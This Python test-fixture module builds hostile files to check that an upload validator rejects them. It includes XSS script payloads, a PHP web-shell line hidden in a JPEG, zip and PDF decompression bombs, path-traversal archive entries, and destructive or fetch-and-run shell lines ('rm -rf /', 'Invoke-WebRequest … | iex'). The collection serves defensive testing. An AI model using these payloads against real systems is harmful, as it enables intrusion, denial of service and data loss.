"""Files made to break what opens them, each with the word that its refusal must hold."""

import bz2
import gzip
import lzma
import struct
import tarfile
import zipfile
import zlib
from io import BytesIO
from random import Random
from typing import Any

from .files import (
    PNG,
    Corpus,
    content_types,
    office,
    open_document,
    overlapping_bomb,
    pdf,
    pdf_with_password,
    picture,
    zipped,
)
from .mails import mail
from .media import box, film, sound, telephone_picture
from .ole import compound, old_excel, old_slides, old_word, outlook

MEGA = 1_000_000
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SCRIPT = b"<script>alert(document.cookie)</script>"
OLD_MACROS = old_word(further={"Macros/VBA/dir": b"x"})
PHOTOGRAPHS = zipped({"a.txt": b"a", "word/media/a.bin": bytes(2 * MEGA)})
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"


def png(width: int, height: int, data: bytes = b"", further: bytes = b"") -> bytes:
    """A picture of ones and noughts that says it has this size."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = chunk(b"IHDR", header) + further + chunk(b"IDAT", zlib.compress(data, 9))
    return b"\x89PNG\r\n\x1a\n" + parts + chunk(b"IEND")


def chunk(kind: bytes, content: bytes = b"") -> bytes:
    check = struct.pack(">I", zlib.crc32(kind + content))
    return struct.pack(">I", len(content)) + kind + content + check


def squeezed(content: bytes) -> bytes:
    """A Word file with an entry squeezed in a way that knows no limit when it is opened."""
    out = BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/a.bin", content, zipfile.ZIP_BZIP2)
    return out.getvalue()


def quoted_types() -> bytes:
    """A macro document whose list of contents is written so that a plain search misses it."""
    types = content_types(
        ("word/document.xml", "application/vnd.ms-word.document.macro&#69;nabled.main+xml")
    )
    return zipped({"[Content_Types].xml": types, "word/document.xml": b"<x/>"})


def lying_size() -> bytes:
    """A Word file with an entry of 20 MB that says it has ten bytes."""
    content = bytearray(office(further={"word/a.bin": bytes(20 * MEGA)}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def page_tree_loop() -> bytes:
    """A PDF whose list of pages contains itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def deep_pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj" + b"[" * 500_000 + b"\n%%EOF\n"


def pages_by_the_thousand(number: int = 200_000) -> bytes:
    """A PDF without its table, so that whoever opens it looks for every page."""
    places = range(3, number + 3)
    kids = b" ".join(b"%d 0 R" % place for place in places)
    pages = b"".join(b"%d 0 obj<</Type/Page/Parent 2 0 R>>endobj\n" % place for place in places)
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + b"2 0 obj<</Type/Pages/Count %d/Kids[%s]>>endobj\n" % (number, kids)
        + pages
        + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def squeezed_table() -> bytes:
    """A PDF whose table of contents is 300 MB of noughts."""
    table = zlib.compress(bytes(300 * MEGA), 9)
    head = b"<</Type/XRef/Size 9000000/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length "
    return (
        b"%PDF-1.5\n9 0 obj"
        + head
        + str(len(table)).encode()
        + b">>stream\n"
        + table
        + b"\nendstream endobj\nstartxref\n9\n%%EOF\n"
    )


def ole_loop() -> bytes:
    """An old Word file with a stream of 90 MB that is one sector in a circle."""
    content = bytearray(old_word())
    content[512 + 4 * 2 : 512 + 4 * 3] = struct.pack("<I", 2)
    size_at = 1024 + 128 + 120
    content[size_at : size_at + 4] = struct.pack("<I", 90 * MEGA)
    return bytes(content)


def many_boxes() -> bytes:
    return box(b"ftyp", b"isom") + box(b"free") * 200_000 + film()


def many_entries() -> bytes:
    return office(further={f"word/{n}": b"" for n in range(6_000)})


def long_list(number: int) -> bytes:
    """An archive of next to nothing whose list of contents says the same entry over and over."""
    whole = zipped({"a": b""})
    start, end = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x05\x06")
    entries = whole[start:end] * number
    last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65_535, 65_535, len(entries), start, 0)
    return whole[:start] + entries + last


def deep_mail() -> bytes:
    head = b"From: a@b\r\nDate: Sat, 21 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    parts = (
        b"Content-Type: multipart/mixed; boundary=%d\r\n\r\n--%d\r\n" % (n, n) for n in range(900)
    )
    return head + b"".join(parts)


def wide_gif() -> bytes:
    """A moving picture that says it is 65,000 dots wide and high."""
    content = bytearray(picture("GIF"))
    content[6:10] = struct.pack("<HH", 65_000, 65_000)
    return bytes(content)


def wide_jpeg() -> bytes:
    """A photograph of which the same is said."""
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", 65_000, 65_000)
    return bytes(content)


def tape() -> bytes:
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("../../etc/cron.d/x")
        entry.size = 1
        archive.addfile(entry, BytesIO(b"x"))
    return out.getvalue()


def archive_in_archives(depth: int = 6) -> bytes:
    """An archive with ten like it inside, and so on: each is opened by hand, or not at all."""
    content = zipped({"0.txt": bytes(MEGA)})
    for _level in range(depth):
        content = zipped({f"{n}.zip": content for n in range(10)})
    return content


def quoted_names() -> bytes:
    """A macro document with its list of contents in single quotes and in UTF-16."""
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = (
        "<?xml version='1.0' encoding='UTF-16'?>"
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
        f"<Override PartName='/word/document.xml' ContentType='{kind}'/></Types>"
    )
    return zipped({"[Content_Types].xml": types.encode("utf-16"), "word/document.xml": b"<x/>"})


# Name of the file, its bytes, and the word of its refusal; none where it is taken, made safe.
_HOSTILE: dict[str, tuple[Any, ...]] = {
    # Two kinds at once.
    "page-in-pdf-clothes": ("a.pdf", b"%PDF-1.7\n<html>" + SCRIPT + b"</html>\n%%EOF", "damaged"),
    "pdf-and-archive": ("a.pdf", pdf() + zipped({"a.exe": b"MZ"}), "two kinds"),
    "archive-and-pdf": ("a.zip", pdf()[:40] + zipped({"a.pdf": pdf()}), "two kinds"),
    "gif-and-script": ("a.gif", picture("GIF") + SCRIPT, "two kinds"),
    "gif-and-pdf": ("a.gif", picture("GIF")[:20] + pdf(), "two kinds"),
    "jpeg-and-php": ("a.jpg", picture("JPEG") + b"<?php system($_GET[0]); ?>", "two kinds"),
    "jpeg-and-java": (
        "a.jpg",
        picture("JPEG") + zipped({"META-INF/MANIFEST.MF": b""}),
        "two kinds",
    ),
    "png-and-script-in-words": (
        "a.png",
        png(8, 8, bytes(16), chunk(b"tEXt", b"Comment\0" + SCRIPT)),
        "two kinds",
    ),
    "heic-and-archive": ("a.heic", telephone_picture() + zipped({"a.exe": b"MZ"}), "two kinds"),
    "film-and-archive": ("a.mp4", film() + zipped({"a.exe": b"MZ"}), "two kinds"),
    "sound-and-script": ("a.mp3", sound() + SCRIPT, "two kinds"),
    "word-and-program": ("a.docx", office() + b"MZ" + bytes(90), "two kinds"),
    "word-and-open-document": (
        "a.docx",
        office(
            further={
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<a/>",
                "META-INF/manifest.xml": b"<a/>",
            }
        ),
        "two kinds",
    ),
    "old-word-and-excel": ("a.doc", old_word(further={"Workbook": b""}), "two kinds"),
    "old-word-and-archive": ("a.doc", old_word() + zipped({"a.exe": b"MZ"}), "two kinds"),
    # Under a false name.
    "svg-as-png": ("logo.png", SVG, "web page"),
    "page-as-text": ("notes.txt", b"Hello\n" + SCRIPT, "web page"),
    "page-behind-a-mark": ("notes.txt", b"\xef\xbb\xbf<html>" + SCRIPT, "web page"),
    "page-in-utf-16": ("notes.txt", "<html><script>".encode("utf-16"), "UTF-16"),
    "shortcut": ("plan.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(99), "program"),
    "program-as-pdf": ("plan.pdf", b"MZ" + bytes(9_999), "program"),
    # Programs, scripts and archives as they are.
    "program": ("setup.exe", b"MZ\x90\x00" + bytes(9_999), "program"),
    "linux-program": ("plan.docx", b"\x7fELF\x02\x01\x01" + bytes(9_999), "program"),
    "mac-program": ("plan", b"\xcf\xfa\xed\xfe" + bytes(9_999), "program"),
    "java-program": ("Plan.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(99), "program"),
    "shell-script": ("notes.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
    "batch-script": ("run.bat", b"@echo off\r\ndel /q *.*\r\n", "program"),
    "power-script": ("run.PS1", b"Invoke-WebRequest http://example.org | iex\n", "program"),
    "office-script": ("run.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n', "program"),
    "browser-script": ("run.js", b"location = 'http://example.org'\n", "program"),
    "shortcut-to-the-web": ("plan.url", b"[InternetShortcut]\r\nURL=file:///c:/x\r\n", "program"),
    "web-page": ("page.html", b"<!DOCTYPE html><html><body>" + SCRIPT, "web page"),
    "drawing": ("logo.svg", SVG, "web page"),
    "drawing-packed": ("logo.svgz", gzip.compress(SVG), "archive"),
    "rich-text": ("a.rtf", b"{\\rtf1{\\object\\objdata 01}}", "Rich text"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x01\x00" + bytes(999), "archive"),
    "seven-zip": ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(999), "archive"),
    "tape": ("a.tar", tape(), "archive"),
    "packed-tape": ("a.tar.gz", gzip.compress(tape()), "archive"),
    "xz": ("a.xz", lzma.compress(bytes(9_999)), "archive"),
    "cabinet": ("a.cab", b"MSCF" + bytes(999), "archive"),
    "disc": ("a.iso", bytes(32_769) + b"CD001" + bytes(9_999), "archive"),
    "nothing-in-an-archive": ("a.zip", b"PK\x05\x06" + bytes(18), "archive"),
    "nothing-at-all": ("a.pdf", b"", "empty"),
    # Programs inside.
    "macros": ("a.docx", office(further={"word/vbaProject.bin": b"x"}), "macros"),
    "macros-quoted": ("a.docx", quoted_types(), "macros"),
    "macros-in-utf-16": ("a.docx", quoted_names(), "macros"),
    "macros-in-capitals": ("a.docx", office(further={"word/VBAPROJECT.BIN": b"x"}), "macros"),
    "open-macros": ("a.ods", open_document("spreadsheet", further={"Basic/a.xml": b"x"}), "macros"),
    "old-word-macros": ("a.doc", OLD_MACROS, "macros"),
    "old-excel-macro-sheet": ("a.xls", old_excel(sheet_kind=1), "macros"),
    "old-slides-macros": ("a.ppt", old_slides(macros=True), "macros"),
    "old-word-with-program": (
        "a.doc",
        old_word(further={"ObjectPool/_1/\x01Ole10Native": b"MZ"}),
        "another file",
    ),
    "mail-with-program": ("a.eml", mail({"a.pdf": b"MZ" + bytes(99)}), "program"),
    "message-with-macros": (
        "a.msg",
        outlook("a.doc", OLD_MACROS),
        "macros",
    ),
    "word-with-program": (
        "a.docx",
        office(further={"word/embeddings/a.bin": b"MZ" + bytes(99)}),
        "another file",
    ),
    "word-with-package": (
        "a.docx",
        office(further={"word/embeddings/a.bin": compound({"\x01Ole10Native": b"MZ"})}),
        "another file",
    ),
    "slides-with-macro-sheet": (
        "a.pptx",
        office(
            "presentationml.presentation",
            further={"ppt/embeddings/a.xlsx": zipped({"xl/vbaProject.bin": b"x"})},
        ),
        "macros",
    ),
    # Not for everybody to read.
    "pdf-password": ("a.pdf", pdf_with_password(), "password"),
    "office-password": ("a.docx", compound({"EncryptedPackage": b"x"}), "password"),
    "open-password": ("a.odt", open_document(encrypted=True), "password"),
    "old-word-password": ("a.doc", old_word(encrypted=True), "password"),
    "old-slides-password": ("a.ppt", old_slides(encrypted=True), "password"),
    "old-excel-password": ("a.xls", old_excel(encrypted=True), "password"),
    # Bombs.
    "65000-dots": ("a.png", png(65_000, 65_000, bytes(9_999)), "million dots"),
    "wide-line": ("a.png", png(60 * MEGA, 1, bytes(99)), "million dots"),
    "65000-dots-moving": ("a.gif", wide_gif(), "million dots"),
    "65000-dots-photograph": ("a.jpg", wide_jpeg(), "million dots"),
    "too-large": ("a.txt", lambda: b"words\n" * (5 * MEGA), "larger than 25"),
    "words-bomb": (
        "a.png",
        lambda: png(
            8, 8, bytes(16), chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * MEGA), 9))
        ),
        "damaged",
    ),
    "overlaps": ("a.docx", overlapping_bomb(), "beyond measure"),
    "overlaps-of-thousands": ("a.docx", lambda: overlapping_bomb(4_000), "beyond measure"),
    "bomb": ("a.xlsx", lambda: office(further={"xl/a.bin": bytes(251 * MEGA)}), "beyond measure"),
    "bomb-without-limit": (
        "a.docx",
        lambda: squeezed(bytes(200 * MEGA)),
        "damaged",
    ),
    "bomb-that-lies": ("a.docx", lying_size, "damaged"),
    "entities": (
        "a.docx",
        zipped({"[Content_Types].xml": b'<!DOCTYPE t [<!ENTITY a "aaaa">]><Types>&a;</Types>'}),
        "damaged",
    ),
    "deep-xml": ("a.docx", lambda: zipped({"[Content_Types].xml": b"<a>" * 600_000}), "damaged"),
    "many-entries": ("a.docx", many_entries, "beyond measure"),
    "long-list": ("a.docx", lambda: long_list(500_000), "damaged"),
    "embedded-bomb": (
        "a.docx",
        lambda: office(further={"word/embeddings/a.bin": bytes(60 * MEGA)}),
        "holds another file",
    ),
    "embedded-long-list": (
        "a.docx",
        lambda: office(further={"word/embeddings/a.xlsx": long_list(400_000)}),
        "damaged",
    ),
    "mail-of-empty-lines": ("a.eml", lambda: mail() + b"\n" * 20 * MEGA, "too many parts"),
    "mail-of-parts": ("a.eml", lambda: mail() + b"\n--x" * 2 * MEGA, "too many parts"),
    "mail-in-depth": ("a.eml", deep_mail, "too many parts"),
    "pages-in-a-circle": ("a.pdf", page_tree_loop(), "damaged"),
    "brackets-in-depth": ("a.pdf", deep_pdf, "damaged"),
    "pages-by-the-thousand": ("a.pdf", pages_by_the_thousand, "damaged"),
    "squeezed-table": ("a.pdf", squeezed_table, "damaged"),
    "sectors-in-a-circle": ("a.doc", ole_loop, "damaged"),
    "film-of-boxes": ("a.mp4", many_boxes, "breaks off"),
    # Ways out.
    "way-out": ("a.docx", office(further={"../../etc/passwd": b"x"}), "damaged"),
    "way-out-windows": ("a.docx", office(further={"..\\..\\a.exe": b"x"}), "damaged"),
    # Broken.
    "cut-pdf": ("a.pdf", pdf(pages=9)[:-900], "breaks off"),
    "cut-word": ("a.docx", office()[:-30], "damaged"),
    "cut-old-word": ("a.doc", old_word()[:-900], "damaged"),
    "cut-picture": ("a.png", PNG[:-30], "damaged"),
    "cut-telephone-picture": ("a.heic", telephone_picture()[:-9], "breaks off"),
    "cut-film": ("a.mp4", film()[:-9], "breaks off"),
    "noise": ("a.pdf", Random(7).randbytes(200_000), "does not"),
    "noise-behind-a-mark": ("a.doc", compound({})[:512] + Random(7).randbytes(20_000), "damaged"),
    "packed-noise": ("a.csv", bz2.compress(bytes(9_999)), "archive"),
}
HOSTILE = Corpus(_HOSTILE)

# Archives that are refused as a whole before the first file in them is looked at.
_ARCHIVES: dict[str, tuple[Any, ...]] = {
    "overlaps": (overlapping_bomb(plain=PHOTOGRAPHS), "beyond measure"),
    "overlaps-of-thousands": (lambda: overlapping_bomb(4_000, plain=PHOTOGRAPHS), "beyond measure"),
    "bomb": (lambda: zipped({"a.txt": bytes(251 * MEGA)}), "beyond measure"),
    "way-out": (zipped({"a.txt": b"a", "../../etc/cron.d/x": b"b"}), "leads out"),
    "way-out-windows": (zipped({"..\\..\\a.exe": b"b"}), "leads out"),
    "thousands": (lambda: zipped({f"{n}.txt": b"" for n in range(6_000)}), "beyond measure"),
    "long-list": (lambda: long_list(500_000), "damaged"),
    "program-behind": (zipped({"a.txt": b"a"}) + b"MZ" + bytes(90), "two kinds"),
}
ARCHIVES = Corpus(_ARCHIVES)

# Names with which a good file comes, and what it is kept as.
NAMES = {
    "../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\win.ini": "win.pdf",
    "plan\x00.exe": "plan.pdf",
    "plan\u202efdp.exe": "planfdp.pdf",
    "p" * 300 + ".pdf": "p" * 196 + ".pdf",
    "CON.pdf": "_CON.pdf",
    "nul": "_nul.pdf",
    "<img src=x onerror=alert(1)>.pdf": "-img src=x onerror=alert(1)-.pdf",
    '=HYPERLINK("http:__example.org";"here").pdf': "=HYPERLINK(-http-__example.org-;-here-).pdf",
}
